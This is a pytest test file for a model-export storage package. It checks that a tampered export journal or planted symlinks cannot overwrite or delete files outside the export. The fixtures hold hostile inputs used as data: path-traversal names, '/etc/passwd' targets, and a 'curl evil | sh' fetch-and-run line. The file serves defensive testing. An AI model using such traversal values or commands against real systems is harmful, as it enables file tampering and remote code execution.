"""An export directory from somebody else changes nothing outside it, and nothing that its manifest lists."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from attnexport.core import ContentError, Signature, StorageError, TensorSpec
from attnexport.store import Artifact, ExportDirectory, VersionEntry
from attnexport.store.files import hash_of
from attnexport.store.links import check_plain

SIGNATURE = Signature("s", (TensorSpec("x", "float32", None),), (TensorSpec("y", "float32", None),))


@pytest.fixture
def foreign(tmp_path: Path) -> Path:
    """An export of one version, beside a home with files of the user's."""
    home = tmp_path / "home"
    (home / "thesis").mkdir(parents=True)
    (home / "bashrc").write_text("mine")
    (home / "thesis" / "text").write_text("years")
    root = tmp_path / "foreign"
    with ExportDirectory(root).stage() as stage:
        path = stage.add("original.keras", "keras/{version}.keras")
        path.write_text("original")
        artifact = Artifact("keras", "keras/1.keras", "sha256:0", 8, "float32", (SIGNATURE,), file_hash=hash_of(path))
        stage.commit(lambda version: VersionEntry(version, "2026-01-01", {}, {}, "Keras", (artifact,)))
    return root


def plant(root: Path, document: Any) -> Path:
    """A journal and its payload, as a killed export leaves them."""
    temporary = root / ".tmp-x"
    temporary.mkdir()
    (temporary / "payload").write_text("curl evil | sh")
    (temporary / "commit.json").write_text(json.dumps(document))
    return temporary


def state(folder: Path) -> dict[str, str]:
    files = (each for each in folder.rglob("*") if each.is_file() and each.name != ".lock")
    return {each.relative_to(folder).as_posix(): each.read_text() for each in files}


def journal(names: Any, version: int = 999) -> dict[str, Any]:
    return {"version": version, "artifacts": [["a", "b"]], "names": names}


OVERWRITE = {"staged": "s0", "backup": "payload"}
REMOVE = {"staged": "s1", "backup": None}


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (journal({"../home/bashrc": OVERWRITE}), "not a relative path inside the export"),
        (journal({"/etc/passwd": OVERWRITE}), "not a relative path inside the export"),
        (journal({"../home/thesis": REMOVE}), "not a relative path inside the export"),
        (journal({"tflite/999/../../../home/bashrc": OVERWRITE}), "not a relative path inside the export"),
        (journal({"attnexport.json": OVERWRITE}), "'attnexport.json' is not an artifact of version 999"),
        (journal({"keras/1.keras": REMOVE}), "'keras/1.keras' is not an artifact of version 999"),
        (journal({"keras": REMOVE}), "'keras' is not an artifact of version 999"),
        (journal({"keras/1.keras": REMOVE}, version=1), "listed in the manifest, and as it was exported"),
        (journal({"keras/1.keras": OVERWRITE}, version=1), "listed in the manifest, and as it was exported"),
        (journal({"tflite/999/x": {"staged": "../../home/y", "backup": None}}), "not a relative path"),
        (journal({"tflite/999/x": {"staged": "s", "backup": "/etc/passwd"}}), "not a relative path"),
        (journal({"tflite/999/x": {"staged": "s", "backup": "a/b"}}), "not the name of a staged file"),
        (journal({"tflite/999/x": {"staged": "commit.json", "backup": 3}}), "a string or null is expected"),
        (journal({"tflite/999/x": {"staged": "s", "backup": "b" * 256}}), "is longer than a file's may be"),
        (journal({f"tflite/999/{'ß' * 128}": REMOVE}), "is longer than a file's may be"),
        (journal([]), "at names: an object is expected"),
        ({**journal({}), "extra": 1}, "it holds 'extra'"),
    ],
)
def test_a_journal_names_only_what_a_commit_writes(foreign: Path, document: Any, reason: str) -> None:
    plant(foreign, document)
    before = state(foreign.parent)
    words = r"commit\.json is not a journal that this attnexport carries out"
    with pytest.raises(StorageError, match=words) as caught, ExportDirectory(foreign).stage():
        pass
    assert reason in str(caught.value)
    assert state(foreign.parent) == before


def test_a_backup_that_is_a_link_is_refused(foreign: Path) -> None:
    temporary = plant(foreign, journal({"tflite/999/x.tflite": {"staged": "s", "backup": "link"}}))
    (temporary / "link").symlink_to(foreign / "keras" / "1.keras")
    with pytest.raises(StorageError, match="is a link"), ExportDirectory(foreign).stage():
        pass
    assert (temporary / "link").is_symlink()


def test_a_name_through_a_link_is_refused(foreign: Path) -> None:
    (foreign / "tflite").mkdir()
    (foreign / "tflite" / "999").symlink_to(foreign / "keras")
    plant(foreign, journal({"tflite/999/1.keras": REMOVE}))
    with pytest.raises(StorageError, match="leads through a link"), ExportDirectory(foreign).stage():
        pass
    assert (foreign / "keras" / "1.keras").read_text() == "original"


LINKS: tuple[tuple[str, Callable[[Path], str]], ...] = (
    ("tflite", lambda home: str(home / "thesis")),
    ("saved_model", lambda home: "../home"),
    ("keras/2.keras", lambda home: str(home / "bashrc")),
    (".tmp-x", lambda home: str(home / "thesis")),
    (".tmp-attnexport.json", lambda home: str(home / "bashrc")),
    ("attnexport.json", lambda home: str(home / "bashrc")),
    (".lock", lambda home: str(home / "bashrc")),
    ("nowhere", lambda home: str(home / "not" / "there")),
)


@pytest.mark.parametrize(("name", "target"), LINKS)
def test_links_that_lead_out_are_refused_everywhere(foreign: Path, name: str, target: Callable[[Path], str]) -> None:
    link, home = foreign / name, foreign.parent / "home"
    if link.exists():
        link.unlink()
    link.symlink_to(target(home))
    before = state(home)
    directory = ExportDirectory(foreign)
    for use in (directory.manifest, directory.newest, lambda: directory.stage().__enter__()):
        if name == ".lock" and use != directory.manifest:
            continue
        with pytest.raises(StorageError):
            use()
    assert state(home) == before


def test_links_that_stay_inside_are_followed(foreign: Path) -> None:
    (foreign / "keras" / "latest.keras").symlink_to("1.keras")
    assert ExportDirectory(foreign).newest().version == 1


@pytest.mark.parametrize("make", ["link", "fifo", "link above"])
def test_only_files_are_copied_out_of_an_export(foreign: Path, make: str) -> None:
    model = foreign / "saved_model" / "1"
    (model / "assets").mkdir(parents=True)
    (model / "saved_model.pb").write_text("graph")
    check_plain(foreign, "saved_model/1")
    if make == "link":  # even one that stays inside
        (model / "assets" / "vocabulary.txt").symlink_to(foreign / "keras" / "1.keras")
    elif make == "fifo":
        os.mkfifo(model / "assets" / "vocabulary.txt")
    else:
        (foreign / "saved_model").rename(foreign / "real")
        (foreign / "saved_model").symlink_to("real")
    with pytest.raises(StorageError, match="link"):
        check_plain(foreign, "saved_model/1")


def test_a_file_with_holes_is_neither_copied_nor_hashed(foreign: Path) -> None:
    model = foreign / "saved_model" / "1"
    model.mkdir(parents=True)
    with (model / "saved_model.pb").open("wb") as file:
        file.truncate(1 << 42)
    with pytest.raises(ContentError, match="a file with holes"):
        check_plain(foreign, "saved_model/1")
    with pytest.raises(ContentError, match="a file with holes"):
        hash_of(model)


@pytest.mark.parametrize("name", ["keras/2.keras", "saved_model", ".tmp-pipe"])
def test_a_pipe_in_an_export_is_refused_and_not_opened(foreign: Path, name: str) -> None:
    os.mkfifo(foreign / name)
    with pytest.raises(StorageError, match="is neither a file nor a directory"):
        ExportDirectory(foreign).newest()


def test_a_link_that_leads_out_is_not_served(foreign: Path) -> None:
    from attnexport.workflows.serve_sources import _models_of

    assert _models_of(foreign) == []
    (foreign / "saved_model").symlink_to(foreign.parent / "home")
    with pytest.raises(StorageError, match="leads out of the export"):
        _models_of(foreign)
